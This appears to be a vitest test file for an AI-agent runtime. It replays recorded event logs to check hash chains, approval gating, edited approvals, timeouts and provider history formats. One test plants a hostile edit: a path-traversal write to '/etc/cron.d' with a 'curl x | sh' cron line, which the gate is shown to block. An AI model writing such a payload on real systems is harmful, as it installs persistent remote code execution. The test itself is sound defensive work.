import { readFileSync } from "node:fs";
import { afterAll, describe, expect, it } from "vitest";
import { aiSdkProvider } from "../../src/ai-sdk.js";
import { createLogReader, createRuntime, MemoryEventLog } from "../../src/index.js";
import type { RecordedEvent, Runtime } from "../../src/index.js";
import { verifyChain } from "../../src/log/hash-chain.js";
import { readEvents } from "../../src/core/read-events.js";
import { foldEvents } from "../../src/projections/projection.js";
import { sessionStateProjection } from "../../src/projections/session-state.js";
import { tokenEstimatorFor } from "../../src/history/token-estimator.js";
import { verifyReplay } from "../../src/replay/replay-verifier.js";
import { formatDecisionChange } from "../../src/replay/what-if.js";
import { ToolRegistry } from "../../src/tools/tool-registry.js";
import { resolveRealPath } from "../../src/util/real-path.js";
import { transferTool, workspace } from "../support/tools.js";
import { auditRows } from "../../src/projections/audit.js";
import { callFingerprint } from "../../src/policy/fingerprint.js";
import { sessionHistory } from "../../src/providers/format-history.js";
import type { FakeProviderServer } from "../providers/support/fake-servers/checking-server.js";
import { responsesModel, responsesProviderOptions } from "../providers/support/fake-servers/provider-models.js";
import { functionCall, message, reasoning, startResponsesServer } from "../providers/support/fake-servers/responses-server.js";

// Golden logs are recorded once and never regenerated (like Temporal's replay fixtures): a change
// that cannot replay an old log fails here instead of in a user's incident.
const load = (name: string) => JSON.parse(readFileSync(new URL(`../fixtures/logs/${name}`, import.meta.url), "utf8")) as RecordedEvent[];

describe("golden log: approval-session.json", () => {
  // A read, a derived ID, an approved write, malformed JSON, an unknown tool, a transport failure
  // and its retry, a failing tool, a denied write, and a final answer.
  const events = load("approval-session.json");

  it("replays identical under the current code", async () => {
    const report = await verifyReplay(events, { registry: new ToolRegistry(workspace().tools), gate: { realPath: resolveRealPath } });
    expect(report.divergences).toEqual([]);
    expect(report.compared).toBe(events.filter((event) => !["session.started", "session.user_message.added", "turn.provider.responded", "turn.provider.failed", "turn.approval.granted", "turn.approval.denied", "turn.tool.succeeded", "turn.tool.failed"].includes(event.type)).length);
  });

  it("still has an intact hash chain", () => {
    const result = verifyChain(
      "session-golden-1",
      events.map((event) => ({ position: event.meta.streamPosition, raw: JSON.stringify(event) })),
    );
    expect(result).toMatchObject({ ok: true, checked: events.length });
  });

  it("folds to the session its story tells, the same way twice", () => {
    const state = foldEvents(sessionStateProjection, readEvents(events));
    expect(foldEvents(sessionStateProjection, readEvents(events))).toEqual(state);
    expect(state.lastOutcome).toEqual({ status: "completed", text: "Wrote c.txt; d.txt was not written." });
    const calls = [...state.calls.values()];
    expect(calls.map((call) => [call.name, call.status])).toEqual([
      ["read_file", "succeeded"],
      ["read_file", "succeeded"],
      ["write_file", "succeeded"],
      ["read_file", "rejected"],
      ["rm_rf", "rejected"],
      ["read_file", "failed"],
      ["write_file", "denied"],
    ]);
    expect(calls[2]?.approval).toEqual({ granted: true, by: "alice", note: "looks right", scope: "call", fingerprint: calls[2]?.decision?.fingerprint });
    expect(state.turns.map((turn) => turn.status)).toEqual(["continued", "continued", "completed"]);
  });
});

describe("golden log: v6-token-counting-session.json (decisions version 6)", () => {
  // A session over a temp directory deleted after recording, budget 369 tokens: a read of a file of
  // 4 000 `~`, then a write of 4 000 `+` (its arguments one pre-tokenizer piece of 4 000+ code
  // units), then a question. Version 6 counts that piece in chunks of 256: 5 tokens more than the
  // encoder's whole count, just enough that the last request summarizes the first exchange.
  const events = load("v6-token-counting-session.json");
  const tools = () => new ToolRegistry(workspace().tools);
  const writeArguments = () => {
    const planned = events.find((event) => event.type === "turn.tool_calls.planned" && JSON.stringify(event.data).includes("call_banner"));
    return (planned?.data as { plans: { input: unknown }[] }).plans[0]!.input;
  };

  it("replays identical under the current code, with an intact hash chain", async () => {
    const report = await verifyReplay(events, { registry: tools() });
    expect(report.divergences).toEqual([]);
    expect(report).toMatchObject({ identical: true, changes: [] });
    expect(verifyChain("session-v6-token-counting", events.map((event) => ({ position: event.meta.streamPosition, raw: JSON.stringify(event) })))).toMatchObject({ ok: true, checked: events.length });
  });

  it("records version 6 and the compaction its bounded count decided", () => {
    expect((events[0]!.data as { decisionsVersion: number; history: unknown }).decisionsVersion).toBe(6);
    expect((events[0]!.data as { history: unknown }).history).toEqual({ maxTokens: 369 });
    const compactions = events.filter((event) => event.type === "session.history.compacted");
    expect(compactions.map((event) => [event.meta.streamPosition, event.data])).toEqual([
      [44, expect.objectContaining({ beforePosition: 21, unitsSummarized: 2, compressor: "deterministic" })],
    ]);
    const state = foldEvents(sessionStateProjection, readEvents(events));
    expect(state.lastOutcome).toEqual({ status: "completed", text: "done." });
    expect(writeArguments()).toEqual({ path: "banner.txt", content: "+".repeat(4_000) });
  });

  it("its long piece counts differently under the two rules: version 5's whole count is lower", () => {
    const text = JSON.stringify(writeArguments());
    expect(tokenEstimatorFor(6).count(text) - tokenEstimatorFor(5).count(text)).toBe(5);
  });

  it("replayed under version 5 rules it diverges: the last request would have kept every unit", async () => {
    const report = await verifyReplay(events, { registry: tools(), decisionsVersion: 5 });
    expect(report.identical).toBe(false);
    expect(report.divergences[0]).toMatchObject({ position: 37, path: "data.counts.estimated_tokens" });
    expect(report.divergences).toContainEqual(expect.objectContaining({ position: 44, type: "session.history.compacted", path: "data.beforePosition", expected: 21 }));
    expect(report.changes.map(formatDecisionChange)).toEqual(["#44 turn-5 history: compact (2 units before #21) → keep (every unit)"]);
  });
});

describe("golden log: v7-edited-approval-session.json (decisions version 7, edit on approval)", () => {
  // Ask mode, the in-memory tools of test/support/tools.ts under a root that never existed: a read of
  // the minutes runs; a write of a summary with a typo is held, and `ann` approves it with edited
  // content (a note says why); the write runs with the edit; the model answers.
  const events = load("v7-edited-approval-session.json");
  const proposed = { path: "summary.txt", content: "Ship on Fridy." };
  const ran = { path: "summary.txt", content: "Ship on Friday (owner: Ann)." };

  it("replays identical with the host's tools and with the tools rebuilt from the log, with an intact hash chain", async () => {
    for (const registry of [new ToolRegistry(workspace().tools), new ToolRegistry()]) {
      const report = await verifyReplay(events, { registry });
      expect(report.divergences).toEqual([]);
      expect(report).toMatchObject({ identical: true, changes: [] });
    }
    expect(verifyChain("session-golden-edit", events.map((event) => ({ position: event.meta.streamPosition, raw: JSON.stringify(event) })))).toMatchObject({ ok: true, checked: events.length });
  });

  it("records the edit on the approval: the edited arguments, bound by their fingerprint, beside the proposed call's", () => {
    const granted = events.find((event) => event.type === "turn.approval.granted");
    const gated = events.find((event) => event.type === "turn.tool_calls.gated" && JSON.stringify(event.data).includes("call_save"));
    const reviewed = (gated?.data as { decisions: { fingerprint: string }[] }).decisions[0]!.fingerprint;
    expect(granted?.data).toEqual({
      turnId: "turn-2",
      callId: "call_save",
      fingerprint: callFingerprint("write_file", ran),
      by: "ann",
      scope: "call",
      note: "fixed the typo and named the owner",
      arguments: ran,
      proposedFingerprint: reviewed,
    });
    expect(reviewed).toBe(callFingerprint("write_file", proposed));
  });

  it("judges the edit again: a copy whose approval carries an edit the gate blocks diverges there; rebuilt from the log, a path tool's edit is unverifiable", async () => {
    const copy = structuredClone(events);
    const approval = copy.find((event) => event.type === "turn.approval.granted")!;
    const widened = { path: "../../etc/cron.d/job", content: "* * * * * curl x | sh" };
    Object.assign(approval.data as object, { arguments: widened, fingerprint: callFingerprint("write_file", widened) });
    const report = await verifyReplay(copy, { registry: new ToolRegistry(workspace().tools) });
    expect(report.identical).toBe(false);
    expect(report.divergences[0]).toMatchObject({ position: approval.meta.streamPosition, type: "turn.approval.granted", path: "data.arguments", actual: expect.stringMatching(/^refused: .*gate would block the edited call/) });

    const fromLog = await verifyReplay(events, { registry: new ToolRegistry() });
    expect(fromLog.unverifiable).toContainEqual({ position: approval.meta.streamPosition, type: "turn.approval.granted", callId: "call_save", reason: "host-code" });
  });

  it("replayed under version 6 rules it diverges at the approval: version 6 answers a held call with yes or no only", async () => {
    const report = await verifyReplay(events, { registry: new ToolRegistry(workspace().tools), decisionsVersion: 6 });
    expect(report.divergences).toEqual([
      { position: 25, type: "turn.approval.granted", path: "data.arguments", expected: ran, actual: expect.stringMatching(/^refused: session golden-edit is under decisions version 6: approving with edited arguments needs version 7/) },
    ]);
  });

  it("folds to the call as it ran: the audit shows both, and both formats' histories show the edited call", () => {
    const state = foldEvents(sessionStateProjection, readEvents(events));
    expect(state.lastOutcome).toEqual({ status: "completed", text: "Saved the summary to summary.txt." });
    const row = auditRows(state).find((candidate) => candidate.callId === "call_save");
    expect(row).toMatchObject({ decision: "ask", rule: "mode:ask", outcome: "succeeded", approvedBy: "ann", edited: { by: "ann", proposed, ran } });
    for (const format of ["openai-chat", "anthropic-messages", "ai-sdk"] as const) {
      const text = JSON.stringify(sessionHistory(state, { format }).messages);
      expect(text, format).toContain("Ship on Friday (owner: Ann).");
      expect(text, format).not.toContain("Fridy");
    }
  });
});

/** A copy of a golden log with one event's recorded time moved (the chain is not what replay checks). */
function withTime(events: readonly RecordedEvent[], position: number, recordedAt: string): RecordedEvent[] {
  return events.map((event) => (event.meta.streamPosition === position ? { ...event, meta: { ...event.meta, recordedAt } } : event));
}

describe("golden log: v7-approval-timeout-session.json (decisions version 7)", () => {
  // `ask` mode, approvalTimeoutMs 60 000, the in-memory tools of test/support/tools.ts over a temp
  // directory deleted after recording: a read runs and a write is held at 08:00:00.004; nobody
  // answers, and the resume at 08:01:00.006 denies it (approval:timeout, by turnlog); the model is
  // told. Asked again, the write is held at 08:01:00.015 and alice approves it 30 s later.
  const events = load("v7-approval-timeout-session.json");
  const tools = () => new ToolRegistry(workspace().tools);

  it("replays identical under the current code, with an intact hash chain", async () => {
    const report = await verifyReplay(events, { registry: tools() });
    expect(report).toMatchObject({ identical: true, divergences: [], changes: [] });
    expect(verifyChain("session-v7-approval-timeout", events.map((event) => ({ position: event.meta.streamPosition, raw: JSON.stringify(event) })))).toMatchObject({ ok: true, checked: events.length });
  });

  it("holds the story: the timed-out write never ran, its packet says so, the approved one ran", () => {
    const state = foldEvents(sessionStateProjection, readEvents(events));
    expect(state.policy?.approvalTimeoutMs).toBe(60_000);
    expect([...state.calls.values()].map((call) => [call.callId, call.status, call.approval?.rule ?? call.approval?.by ?? null])).toEqual([
      ["call_read", "succeeded", null],
      ["call_write", "denied", "approval:timeout"],
      ["call_write_again", "succeeded", "alice"],
    ]);
    expect(state.calls.get("call_write")?.packet).toMatchObject({ ok: false, errorCode: "approval-timeout" });
    expect(events.find((event) => event.type === "turn.approval.denied")?.meta).toMatchObject({ streamPosition: 12, recordedAt: "2026-12-06T08:01:00.006Z" });
  });

  it("a denial by approval:timeout recorded before the deadline, or an approval recorded after it, is a divergence", async () => {
    const early = await verifyReplay(withTime(events, 12, "2026-12-06T08:01:00.003Z"), { registry: tools() });
    expect(early.divergences).toEqual([{ position: 12, type: "turn.approval.denied", path: "meta.recordedAt", expected: "2026-12-06T08:01:00.003Z", actual: "not before the deadline 2026-12-06T08:01:00.004Z" }]);
    const late = await verifyReplay(withTime(events, 32, "2026-12-06T08:02:00.015Z"), { registry: tools() });
    expect(late.divergences).toEqual([
      { position: 32, type: "turn.approval.granted", path: "meta.recordedAt", expected: "2026-12-06T08:02:00.015Z", actual: "before the deadline 2026-12-06T08:02:00.015Z (the call is denied by approval:timeout)" },
    ]);
  });

  it("under decisions version 6 a held call has no deadline: the timeout denial is one that version would never record", async () => {
    const report = await verifyReplay(events, { registry: tools(), decisionsVersion: 6 });
    expect(report.divergences).toEqual([expect.objectContaining({ position: 12, path: "meta.recordedAt" })]);
  });
});

describe("golden log: v7-needs-approval-session.json (decisions version 7)", () => {
  // `auto-edit`, trusted, over a temp directory deleted after recording, with `transferTool()`
  // (test/support/tools.ts): its needsApproval answers false for 5 and true for 500 (recorded at
  // #10, before the gate at #12), so 5 and a read run unasked and 500 asks (host:needs-approval)
  // and alice approves it; then it throws for 13 (#36), which asks (host:needs-approval-failed)
  // and alice denies.
  const events = load("v7-needs-approval-session.json");
  const tools = () => new ToolRegistry([...workspace().tools, transferTool()]);

  it("replays identical under the current code, taking the needsApproval answers as logged", async () => {
    const report = await verifyReplay(events, { registry: tools() });
    expect(report).toMatchObject({ identical: true, divergences: [], changes: [] });
    expect(report.hostRules).toEqual([
      { position: 10, callId: "call_small", tool: "transfer", needsApproval: false },
      { position: 10, callId: "call_large", tool: "transfer", needsApproval: true },
      { position: 36, callId: "call_odd", tool: "transfer", needsApproval: true, error: "the limits service refused to judge 13" },
    ]);
    expect(verifyChain("session-v7-needs-approval", events.map((event) => ({ position: event.meta.streamPosition, raw: JSON.stringify(event) })))).toMatchObject({ ok: true, checked: events.length });
  });

  it("replays identical without the host's code for the tool too: its predicate is never run", async () => {
    const report = await verifyReplay(events, { registry: new ToolRegistry(workspace().tools) });
    expect(report).toMatchObject({ identical: true, toolsFromLog: ["transfer"], changes: [] });
  });

  it("holds the story: what asked, by which rule, and what ran", () => {
    const state = foldEvents(sessionStateProjection, readEvents(events));
    expect([...state.calls.values()].map((call) => [call.callId, call.decision?.decision, call.decision?.rule, call.status])).toEqual([
      ["call_small", "allow", "mode:auto-edit", "succeeded"],
      ["call_large", "ask", "host:needs-approval", "succeeded"],
      ["call_read", "allow", "mode:auto-edit", "succeeded"],
      ["call_odd", "ask", "host:needs-approval-failed", "denied"],
    ]);
  });

  it("under decisions version 6 the gate reads no answer: both transfers would run unasked", async () => {
    const report = await verifyReplay(events, { registry: tools(), decisionsVersion: 6 });
    expect(report.changes.map(formatDecisionChange)).toEqual(expect.arrayContaining([
      expect.stringContaining("call_large transfer: ask (host:needs-approval) → allow (mode:auto-edit)"),
      expect.stringContaining("call_odd transfer: ask (host:needs-approval-failed) → allow (mode:auto-edit)"),
    ]));
  });
});

describe("golden log: v7-ai-sdk-responses-session.json (decisions version 7, the ai-sdk format)", () => {
  // `aiSdkProvider(openai.responses("gpt-5"))` of the real @ai-sdk/openai, stateless reasoning
  // (`store: false`, encrypted content included), against the fake Responses server; `ask` mode, the
  // in-memory tools of test/support/tools.ts under a root that never existed. Turn 1: a reasoning
  // item with a summary and a read of package.json, which runs. Turn 2: a reasoning item without
  // summary, a line of text and a write of RELEASE.md, held and approved by alice, which runs.
  // Turn 3: a reasoning item of two summary parts and the answer. Usage recorded on every answer.
  const events = load("v7-ai-sdk-responses-session.json");
  const sessionId = "golden-ai-sdk";
  const tools = () => new ToolRegistry(workspace().tools);
  /** The fake server's replies the session was recorded from: what a continuation must echo. */
  const recordedReplies = [
    { output: [reasoning("rs_golden_1", "gAAAAB-enc-golden-one", ["The version is in package.json; read it first."]), functionCall("fc_golden_1", "call_golden_read", "read_file", { path: "package.json" })] },
    {
      output: [
        reasoning("rs_golden_2", "gAAAAB-enc-golden-two"),
        message("msg_golden_2", "Version 1.4.2. Writing the release note."),
        functionCall("fc_golden_2", "call_golden_write", "write_file", { path: "RELEASE.md", content: "## 1.4.2\n\n- Parses quoted values.\n" }),
      ],
    },
  ];
  const responded = () => events.filter((event) => event.type === "turn.provider.responded").map((event) => event.data as { echo?: { parts: { type: string; text?: string; providerMetadata?: unknown }[] }; echoDropped?: string; usage?: unknown; finishReason: string });

  /** A memory log holding the golden session as recorded (types and data: the log makes its own chain). */
  async function logWithGolden(): Promise<MemoryEventLog> {
    const log = new MemoryEventLog();
    await log.appendToStream(`session-${sessionId}`, events.map(({ type, data }) => ({ type, data })));
    return log;
  }

  const cleanups: (() => Promise<void>)[] = [];
  afterAll(async () => {
    for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
  });

  it("replays identical under the current code, with an intact hash chain", async () => {
    const report = await verifyReplay(events, { registry: tools() });
    expect(report).toMatchObject({ identical: true, divergences: [], changes: [], toolsFromLog: [] });
    expect(report.compared).toBeGreaterThan(0);
    expect(verifyChain(`session-${sessionId}`, events.map((event) => ({ position: event.meta.streamPosition, raw: JSON.stringify(event) })))).toMatchObject({ ok: true, checked: events.length });
  });

  it("records the ai-sdk format, every answer's echo with its reasoning and provider metadata (none dropped), and usage", () => {
    expect((events[0]!.data as { provider: unknown; decisionsVersion: number }).provider).toEqual({ id: "ai-sdk:openai.responses:gpt-5", format: "ai-sdk", maxAttempts: 3 });
    expect((events[0]!.data as { decisionsVersion: number }).decisionsVersion).toBe(7);
    const answers = responded();
    expect(answers.map((answer) => answer.finishReason)).toEqual(["tool_calls", "tool_calls", "stop"]);
    expect(answers.every((answer) => answer.echoDropped === undefined && answer.usage !== undefined)).toBe(true);
    expect(answers.map((answer) => answer.echo?.parts.filter((part) => part.type === "reasoning").map((part) => part.providerMetadata))).toEqual([
      [{ openai: { itemId: "rs_golden_1", reasoningEncryptedContent: "gAAAAB-enc-golden-one" } }],
      [{ openai: { itemId: "rs_golden_2", reasoningEncryptedContent: "gAAAAB-enc-golden-two" } }],
      [{ openai: { itemId: "rs_golden_3" } }, { openai: { itemId: "rs_golden_3", reasoningEncryptedContent: "gAAAAB-enc-golden-three" } }],
    ]);
    const state = foldEvents(sessionStateProjection, readEvents(events));
    expect(state.lastOutcome).toEqual({ status: "completed", text: "Wrote RELEASE.md for version 1.4.2 (alice approved the write)." });
    expect([...state.calls.values()].map((call) => [call.callId, call.name, call.decision?.rule, call.approval?.by ?? null, call.status])).toEqual([
      ["call_golden_read", "read_file", "mode:ask", null, "succeeded"],
      ["call_golden_write", "write_file", "mode:ask", "alice", "succeeded"],
    ]);
  });

  it("the history API's ai-sdk request sends every tool turn's reasoning as recorded, its metadata as the part's providerOptions, and answers every call by its ID", async () => {
    const reader = createLogReader(await logWithGolden());
    const { messages } = await reader.history(sessionId, { format: "ai-sdk" });
    type Part = { type: string; text?: string; providerOptions?: unknown; toolCallId?: string };
    const parts = (role: string) => (messages as { role: string; content: string | Part[] }[]).flatMap((entry) => (entry.role === role && Array.isArray(entry.content) ? entry.content : []));
    const echoed = responded()
      .slice(0, 2)
      .flatMap((answer) => answer.echo?.parts.filter((part) => part.type === "reasoning") ?? []);
    expect(parts("assistant").filter((part) => part.type === "reasoning")).toEqual(echoed.map((part) => ({ type: "reasoning", text: part.text, providerOptions: part.providerMetadata })));
    // The answer without calls goes back as its text: its reasoning is no tool group's, and the
    // Responses API needs no reasoning item of an earlier answer.
    expect(JSON.stringify(messages)).not.toContain("rs_golden_3");
    const calls = parts("assistant").filter((part) => part.type === "tool-call").map((part) => part.toolCallId);
    expect(calls).toEqual(["call_golden_read", "call_golden_write"]);
    expect(parts("tool").filter((part) => part.type === "tool-result").map((part) => part.toolCallId)).toEqual(calls);
    // The same as the in-process projection of the folded log.
    expect(messages).toEqual(sessionHistory(foldEvents(sessionStateProjection, readEvents(events)), { format: "ai-sdk" }).messages);
  });

  it("a what-if that denies writes reports the held write's change at its gate, diverges there, and leaves the log as it was", async () => {
    const log = await logWithGolden();
    const before = JSON.stringify(await log.readStream(`session-${sessionId}`));
    const reader = createLogReader(log, { tools: workspace().tools });
    const report = await reader.replay(sessionId, { policy: { deny: [{ tool: "write_file" }] } });
    const gated = events.find((event) => event.type === "turn.tool_calls.gated" && JSON.stringify(event.data).includes("call_golden_write"))!;
    expect(report.identical).toBe(false);
    expect(report.changes.map(formatDecisionChange)).toEqual([`#${gated.meta.streamPosition} call_golden_write write_file: ask (mode:ask) → deny (deny:tool=write_file)`]);
    expect(report.divergences[0]).toMatchObject({ position: gated.meta.streamPosition, type: "turn.tool_calls.gated" });
    expect(JSON.stringify(await log.readStream(`session-${sessionId}`))).toBe(before);
    expect(await reader.replay(sessionId)).toMatchObject({ identical: true, changes: [] });
  });

  it("a fork at the held write, denied there, continues through @ai-sdk/openai with both tool turns' reasoning items echoed to the server", async () => {
    const log = await logWithGolden();
    const gated = events.find((event) => event.type === "turn.tool_calls.gated" && JSON.stringify(event.data).includes("call_golden_write"))!;
    const server: FakeProviderServer = await startResponsesServer([{ output: [reasoning("rs_fork_3", "gAAAAB-enc-fork-three"), message("msg_fork_3", "RELEASE.md was not written: bob declined.")] }], { alreadyServed: recordedReplies });
    cleanups.push(() => server.close());
    const runtime: Runtime = await createRuntime({
      log,
      provider: aiSdkProvider(responsesModel(server.url), { providerOptions: responsesProviderOptions }),
      tools: workspace({ "package.json": "{}" }).tools,
      policy: { approvalMode: "ask", workspace: { root: "/tmp/golden-ai-sdk-ws-P3k9", trusted: true } },
      history: { system: "You are a coding assistant." },
    });
    cleanups.push(() => runtime.close());
    expect(await runtime.fork(sessionId, { at: gated.meta.streamPosition, to: "golden-ai-sdk-denied" })).toMatchObject({ copied: gated.meta.streamPosition });
    const fork = await runtime.openSession("golden-ai-sdk-denied");
    expect(fork.state().calls.get("call_golden_write")?.status).toBe("awaiting-approval");
    await fork.deny("call_golden_write", { by: "bob", note: "not yet" });
    expect(await fork.resume()).toMatchObject({ status: "completed", text: "RELEASE.md was not written: bob declined." });

    expect(server.problems).toEqual([]);
    expect(server.remaining).toBe(0);
    const input = (server.requests[0]?.body as { input: Record<string, unknown>[] }).input;
    expect(input.filter((item) => item.type === "reasoning")).toEqual([
      { type: "reasoning", id: "rs_golden_1", encrypted_content: "gAAAAB-enc-golden-one", summary: [{ type: "summary_text", text: "The version is in package.json; read it first." }] },
      { type: "reasoning", id: "rs_golden_2", encrypted_content: "gAAAAB-enc-golden-two", summary: [] },
    ]);
    expect(input.filter((item) => item.type === "function_call_output").map((item) => item.call_id)).toEqual(["call_golden_read", "call_golden_write"]);
    expect(await runtime.replay("golden-ai-sdk-denied")).toMatchObject({ identical: true, divergences: [] });
    // The source is as it was.
    expect(await runtime.replay(sessionId)).toMatchObject({ identical: true, changes: [] });
  });
});
